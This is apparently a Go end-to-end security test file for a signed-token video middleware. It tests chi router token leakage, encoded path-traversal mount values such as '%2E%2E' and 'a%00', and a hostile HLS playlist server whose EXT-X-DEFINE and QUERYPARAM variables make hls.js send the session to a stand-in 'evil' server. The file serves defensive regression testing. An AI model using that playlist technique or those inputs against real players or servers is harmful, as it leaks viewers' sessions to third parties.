package e2e

// Round 11 attacks that need chi or a real browser; the rest are in the
// root package's attack11_test.go. Tests named TestAttack…Finding failed
// on the code they were written against (a1bf35d).

import (
	"context"
	"crypto/rand"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/go-chi/chi/v5"
	"github.com/privatevideo/privatevideo"
	"github.com/privatevideo/privatevideo/store"
)

func attackMiddleware(t *testing.T, opts ...privatevideo.Option) *privatevideo.Middleware {
	t.Helper()
	key := make([]byte, 32)
	rand.Read(key)
	pv, err := privatevideo.New([]privatevideo.Key{{Hash: key}},
		append([]privatevideo.Option{privatevideo.WithStore(store.NewMemory(0)), privatevideo.WithInsecureCookies()}, opts...)...)
	if err != nil {
		t.Fatal(err)
	}
	return pv
}

// FINDING (a limit, documented in SECURITY.md and the README): under chi's
// Mount, or a chi Route whose subrouter Uses the middleware, a chi router
// as the media handler routes on chi's RoutePath, which the parent set to
// the client's path below the mount before the middleware ran: the
// private token segment, and the client's escapes, as they came. The
// middleware cannot reset it without importing chi, so the wrapped chi
// router must reset it from the public URL, with the README's publicRoute;
// behind it the routes see no token.
func TestChiSubrouterBehindPublicRouteSeesNoToken(t *testing.T) {
	for _, c := range []struct {
		name  string
		mount func(pv *privatevideo.Middleware, media http.HandlerFunc) http.Handler
	}{
		{"Mount of a chi router", func(pv *privatevideo.Middleware, media http.HandlerFunc) http.Handler {
			sub := chi.NewRouter()
			sub.Use(publicRoute("/media"))
			sub.Get("/vod/{id}/*", media)
			r := chi.NewRouter()
			r.Mount("/media", pv.Handler(sub))
			return r
		}},
		{"Route with Use", func(pv *privatevideo.Middleware, media http.HandlerFunc) http.Handler {
			r := chi.NewRouter()
			r.Route("/media", func(r chi.Router) {
				r.Use(pv.Handler, publicRoute("/media"))
				r.Get("/vod/{id}/*", media)
			})
			return r
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			pv := attackMiddleware(t)
			var mu sync.Mutex
			var seen []string
			media := func(w http.ResponseWriter, r *http.Request) {
				mu.Lock()
				seen = append(seen, fmt.Sprintf("path=%s route=%s id=%s rest=%s", r.URL.Path,
					chi.RouteContext(r.Context()).RoutePath, chi.URLParam(r, "id"), chi.URLParam(r, "*")))
				mu.Unlock()
				io.WriteString(w, "media bytes")
			}
			srv := httptest.NewServer(c.mount(pv, media))
			defer srv.Close()
			urls, err := pv.IssueURLs(context.Background(), srv.URL+"/media", "v1")
			if err != nil {
				t.Fatal(err)
			}
			tok := urls.Player[strings.Index(urls.Player, "?token=")+len("?token="):]
			resp, err := http.Get(urls.MP4)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("%d, want 200", resp.StatusCode)
			}
			mu.Lock()
			defer mu.Unlock()
			for _, s := range seen {
				if strings.Contains(s, tok) || strings.Contains(s, "/token/") {
					t.Errorf("the wrapped chi router saw the private token: %s", s)
				}
			}
		})
	}
}

// hostileHLS answers a master playlist that sends the session to a third
// party with HLS's variables: "queryparam", a variant that, once the
// rewriter has given it the session (?avh=…), copies its URL's query with
// EXT-X-DEFINE:QUERYPARAM; "define", a variant URI "{$h}/v.m3u8" that the
// rewriter reads as relative and gives the session, and that a player
// reads as the third party's once {$h} is substituted.
type hostileHLS struct{ evil, kind string }

func (h hostileHLS) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/vnd.apple.mpegurl")
	switch {
	case strings.HasSuffix(r.URL.Path, "/master.m3u8") && h.kind == "define":
		fmt.Fprintf(w, "#EXTM3U\n#EXT-X-VERSION:8\n#EXT-X-DEFINE:NAME=\"h\",VALUE=\"%s\"\n"+
			"#EXT-X-STREAM-INF:BANDWIDTH=400000,RESOLUTION=320x180,CODECS=\"avc1.64000d,mp4a.40.2\"\n{$h}/v.m3u8\n", h.evil)
	case strings.HasSuffix(r.URL.Path, "/master.m3u8"):
		io.WriteString(w, "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=400000,RESOLUTION=320x180,CODECS=\"avc1.64000d,mp4a.40.2\"\nv.m3u8\n")
	case strings.HasSuffix(r.URL.Path, "/v.m3u8"):
		fmt.Fprintf(w, "#EXTM3U\n#EXT-X-VERSION:11\n#EXT-X-DEFINE:QUERYPARAM=\"avh\"\n#EXT-X-TARGETDURATION:4\n"+
			"#EXTINF:4,\n%s/s0.ts?k={$avh}\n#EXT-X-ENDLIST\n", h.evil)
	default:
		http.NotFound(w, r)
	}
}

// hls.js (the copy in player/) substitutes HLS variables: EXT-X-DEFINE
// NAME/VALUE in any URI, and QUERYPARAM from a playlist's own URL. A player
// without cookies on another origin (the README's recipe without
// credentials) gets playlists rewritten with the session, so a hostile or
// careless playlist sends the session to a third party, which then plays
// the video for its lifetime: "{$h}/v.m3u8" looks relative to the
// rewriter, and a variant's URL carries avh for QUERYPARAM to copy. See
// TestAttackPlaylistCopiesSessionElsewhereFinding for the rule the HLS
// rewriter lacks (the DASH one refuses UrlQueryInfo for this reason).
func TestAttackHLSJSSendsSessionToAThirdPartyFinding(t *testing.T) {
	for _, kind := range []string{"queryparam", "define"} {
		t.Run(kind, func(t *testing.T) { hlsjsToThirdParty(t, kind) })
	}
}

func hlsjsToThirdParty(t *testing.T, kind string) {
	var mu sync.Mutex
	var got []string
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		got = append(got, r.URL.RequestURI())
		mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		http.NotFound(w, r)
	}))
	defer evil.Close()
	site := playerSite(t)
	pv := attackMiddleware(t, privatevideo.WithCORS(site.URL))
	media := httptest.NewServer(pv.Handler(hostileHLS{evil: evil.URL, kind: kind}))
	defer media.Close()
	tok, err := pv.Issue(context.Background(), "v1")
	if err != nil {
		t.Fatal(err)
	}
	src := media.URL + "/vod/v1/token/" + tok + "/hls/master.m3u8"
	ctx := browser(t)
	if _, err := chromedp.Run(ctx, chromedp.Navigate(pageURL(site, "hlsjs", src, false))); err != nil {
		t.Fatal(err)
	}
	// Until the third party is asked, or the player gives up.
	for deadline := time.Now().Add(15 * time.Second); time.Now().Before(deadline); time.Sleep(200 * time.Millisecond) {
		mu.Lock()
		asked := len(got) > 0
		mu.Unlock()
		if asked {
			break
		}
		errs, err := chromedp.Run(ctx, chromedp.Evaluate[int](`window.__pv.errors.length`))
		if err == nil && errs > 0 {
			break
		}
	}
	mu.Lock()
	defer mu.Unlock()
	for _, u := range got {
		if q, _ := url.ParseQuery(u[strings.IndexByte(u, '?')+1:]); len(q.Get("k")) > 20 || q.Get("avh") != "" {
			t.Fatalf("the third party received the session: %s", u)
		}
	}
}

// chi's path values come from the escaped path (chi routes on RawPath when
// there is one): a mount from a value that is escaped, or outside the asset
// grammar, is refused before the store; letter case and a missing mount
// are chi's 404.
func TestAttackChiMountValuesHold(t *testing.T) {
	pv := attackMiddleware(t, privatevideo.WithGrace(0))
	r := chi.NewRouter()
	r.Mount("/t/{tenant}", pv.Handler(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, "path="+r.URL.Path)
	})))
	r.Route("/r/{id:[a-z]+}", func(r chi.Router) {
		r.With(pv.Handler).Get("/vod/*", func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "path="+r.URL.Path) })
	})
	srv := httptest.NewServer(r)
	defer srv.Close()
	for _, c := range []struct {
		mount string
		ok    bool
	}{
		{"/t/acme", true},
		{"/r/acme", true},
		{"/t/a%20b", false},
		{"/t/a;b", false},
		{"/t/%2E%2E", false},
		{"/t/a%2Fb", false},
		{"/t/%61cme", false},
		{"/t/a.", false},
		{"/t/a%00", false},
		{"/t/%C3%A9", false},
		{"/T/acme", false},
		{"/r/ACME", false},
		{"/t/acme/x", false},
	} {
		tok, err := pv.Issue(context.Background(), "v1")
		if err != nil {
			t.Fatal(err)
		}
		resp, err := http.Get(srv.URL + c.mount + "/vod/v1/token/" + tok + "/a.ts")
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		switch {
		case c.ok && (resp.StatusCode != http.StatusOK || string(body) != "path="+c.mount+"/vod/v1/a.ts"):
			t.Errorf("%s: %d %q, want the public path under the mount", c.mount, resp.StatusCode, body)
		case !c.ok && resp.StatusCode == http.StatusOK:
			t.Errorf("%s: %d %q, want a refusal", c.mount, resp.StatusCode, body)
		case !c.ok:
			// Refused: the token must be as it was.
			if r2, err := http.Get(srv.URL + "/t/acme/vod/v1/token/" + tok + "/a.ts"); err != nil || r2.StatusCode != http.StatusOK {
				t.Errorf("%s: refused, but the token no longer redeems", c.mount)
			} else {
				r2.Body.Close()
			}
		}
	}
}

// publicRoute is the README's adapter: it points chi's RoutePath at the
// public path the middleware handed on, below the mount.
func publicRoute(mount string) func(http.Handler) http.Handler {
	return func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if rc := chi.RouteContext(r.Context()); rc != nil {
				rc.RoutePath = strings.TrimPrefix(r.URL.Path, mount)
			}
			next.ServeHTTP(w, r)
		})
	}
}
